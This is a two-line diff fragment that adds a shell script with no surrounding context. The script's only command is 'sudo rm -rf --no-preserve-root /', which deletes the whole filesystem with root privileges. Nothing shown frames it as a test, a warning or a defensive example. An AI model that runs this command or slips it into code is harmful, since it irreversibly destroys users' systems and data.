@@ -1,0 +1,2 @@
+#!/bin/sh
+sudo rm   -rf   --no-preserve-root   /
